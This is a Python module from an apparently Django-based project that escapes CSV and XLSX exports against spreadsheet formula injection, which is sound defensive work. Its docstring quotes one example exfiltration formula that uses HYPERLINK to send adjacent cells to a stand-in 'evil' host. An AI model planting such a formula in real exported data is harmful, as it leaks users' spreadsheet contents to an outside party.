"""Spreadsheet downloads (CSV and XLSX), safe to open in Excel or LibreOffice.

Every export of the project goes through ``table_response`` (a test fails on a
``csv.writer`` or ``Workbook`` anywhere else). Values that start like a formula
(``=``, ``+``, ``-``, ``@``, a tab or a carriage return) would be run by the
spreadsheet program — a host named ``=HYPERLINK("https://evil/?"&A1)`` sends
the neighbouring cells away when clicked. In CSV such a text gets a leading
apostrophe (OWASP's advice: the program shows it as text); in XLSX the cell is
written as a text cell, which no program evaluates. Numbers and dates are
written as they are, so a negative amount stays a number.
"""

import csv
import io

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_csv(value):
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _xlsx_cell(sheet, value):
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=None)
        # Assigning the value would make a formula of "=..."; a text cell stays text.
        cell._value = value
        cell.data_type = "s"
        return cell
    return value


def table_response(filename: str, header, rows, fmt: str):
    """CSV (semicolon, Excel-friendly in Dutch locales) or XLSX download."""
    if fmt == "xlsx":
        from openpyxl import Workbook

        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        sheet.append([_xlsx_cell(sheet, v) for v in header])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, v) for v in row])
        buffer = io.BytesIO()
        book.save(buffer)
        response = HttpResponse(
            buffer.getvalue(),
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
        return response
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([escape_csv(v) for v in header])
    writer.writerows([escape_csv(v) for v in row] for row in rows)
    response = HttpResponse("\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response
